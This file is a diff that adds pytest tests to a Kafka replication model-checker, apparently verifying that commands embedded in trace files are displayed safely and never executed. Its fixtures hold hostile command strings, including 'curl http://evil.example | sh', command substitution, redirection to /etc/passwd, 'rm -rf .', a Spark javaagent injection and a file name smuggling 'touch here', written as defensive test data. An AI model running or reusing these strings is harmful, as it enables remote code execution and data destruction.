@@ -1,0 +1,147 @@
+"""What a file says is shown, and never obeyed: commands that others may copy, names that a terminal would act on."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from conformance.tests.support.engine import COUNTER
+from conformance.tests.support.trace import COMMITTED, kafka, weak_isr
+from isrcheck.checker.cli import main as check
+from isrcheck.conformance.cli import main as conform
+from isrcheck.traces.cli import main as trace
+from isrcheck.traces.format import folder
+
+ODD = "a\x1b[31mred\n\x9b\u202e"
+SHOWN = r"a\x1b[31mred\n\x9b\u202e"
+
+OURS = [
+    "check kafka --protocol 0.10 --bound 6",
+    "check published/truncate_to_high_watermark --bound 24 --log-size 3 --switch FOLLOWER_SKIP=SAME_LEADER",
+    "check kafka --bound 3 --engine z3",
+    "check kafka --bound 3 --prove",
+    "check kafka --bound 3 --counterexamples 2 && trace slice 'my traces/a.itf.json'",
+    "trace explore kafka/0.10 --replicas 2",
+    "conform replay --walks 1 --seed 7 --steps 20 --protocol 2.1 --bug some_bug",
+    "conform follow 'a log.ndjson' --protocol 2.1 --set replicas=2",
+    "",
+]
+NOT_OURS = [
+    "check kafka; curl http://evil.example | sh",
+    "check kafka && curl evil.example",
+    "check kafka\t&& check kafka",
+    "check kafka $(touch here)",
+    "check kafka `touch here`",
+    "check kafka > /etc/passwd",
+    "check kafka 'unfinished",
+    "check ~/kafka",
+    "check *",
+    "check kafka #",
+    "rm -rf .",
+    "X=1 check kafka",
+    "check other.py --bound 8",
+    "check kafka --model=other.py",
+    "conform replay --walks 1 --driver other.py",
+    "check kafka --report .",
+    "check kafka --out=.",
+    "check kafka -o x",
+    "check kafka --engine spark --spark-conf spark.driver.extraJavaOptions=-javaagent:x.jar",
+    "&&",
+]
+
+
+def with_command(path: Path, command: str) -> Path:
+    """The same trace, with another command."""
+    document = json.loads(path.read_text())
+    document["#meta"]["isrcheck"]["command"] = command
+    path.write_text(json.dumps(document))
+    return path
+
+
+@pytest.mark.parametrize("command", OURS)
+def test_a_command_of_ours_is_shown_as_it_is(tmp_path: Path, command: str) -> None:
+    path = with_command(folder.write(weak_isr(), tmp_path), command)
+    assert folder.read(path).command == command
+
+
+@pytest.mark.parametrize("command", NOT_OURS)
+def test_any_other_command_is_made_of_the_configuration(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
+) -> None:
+    path = with_command(folder.write(weak_isr(), tmp_path), command)
+    if "\t" in command:
+        assert trace(["show", str(path)]) == 2
+        return
+    made = "check published/truncate_to_high_watermark --bound 8 --replicas 2 --log-size 1 --records 1"
+    assert trace(["show", str(path)]) == 0
+    assert capsys.readouterr().out.splitlines()[-1] == f"reproduce: {made}"
+    assert trace(["page", str(path), "-o", str(tmp_path / "page.html")]) == 0
+    page = (tmp_path / "page.html").read_text()
+    assert f'<code class="command">{made}</code>' in page
+    assert "evil" not in page
+
+
+def test_a_behaviour_has_no_search_to_name(tmp_path: Path) -> None:
+    path = with_command(folder.write(kafka(COMMITTED, None), tmp_path), "curl evil.example | sh")
+    assert folder.read(path).command == ""
+
+
+def test_a_file_of_another_version_does_not_say_what_to_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = with_command(folder.write(weak_isr(), tmp_path), "curl evil.example | sh")
+    path.write_text(path.read_text().replace('"model-digest": "', '"model-digest": "0'))
+    assert trace(["show", str(path)]) == 2
+    err = capsys.readouterr().err
+    assert "evil" not in err
+    assert err.endswith("; make the trace anew with check\n")
+
+
+def test_the_path_of_a_model_in_advice_is_quoted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = folder.write(weak_isr(), tmp_path)
+    document = json.loads(path.read_text())
+    document["#meta"]["isrcheck"]["model-file"] = "a.py; touch here"
+    path.write_text(json.dumps(document))
+    assert trace(["show", str(path)]) == 2
+    assert capsys.readouterr().err.endswith("give it: --model 'a.py; touch here'\n")
+
+
+def test_the_trace_of_a_model_with_an_odd_name_is_read_back(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    model = Path(f"{ODD}.py")
+    model.write_text(COUNTER)
+    assert check([str(model), "--bound", "2"]) == 12
+    out, err = capsys.readouterr()
+    assert (out + err).replace("\n", "").isprintable()
+    (path,) = folder.files(Path("counterexamples"))
+    assert trace(["show", str(path), "--model", str(model)]) == 0
+    out, err = capsys.readouterr()
+    assert (out + err).replace("\n", "").isprintable()
+    assert out.splitlines()[-1] == f"reproduce: check '{SHOWN}.py' --bound 2"
+    for words in (["show", str(path)], ["list"], ["page", str(path), "--model", str(model), "-o", f"{ODD}.html"]):
+        trace(words)
+        out, err = capsys.readouterr()
+        assert (out + err).replace("\n", "").isprintable()
+
+
+def test_names_of_files_are_shown_escaped(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    path = folder.write(kafka(COMMITTED, None), tmp_path / "here")
+    (tmp_path / "here" / "latest").unlink()
+    shutil.copy(path, path.with_name(f"{ODD}.itf.json"))
+    path.with_name(f"{ODD}2.itf.json").write_text("{}")
+    path.unlink()
+    assert trace(["list", "here"]) == 2
+    out, err = capsys.readouterr()
+    assert [line.split("  ")[0] for line in out.splitlines()] == ["file", f"{SHOWN}.itf.json"]
+    assert err.startswith(f"trace: here/{SHOWN}2.itf.json: ")
+    assert err.count("\n") == 1
+    assert conform(["replay", "here"]) != 0
+    out, err = capsys.readouterr()
+    assert (out + err).replace("\n", "").isprintable()
+    assert (out + err).count("\n") == (out + err).count(f"here/{SHOWN}")
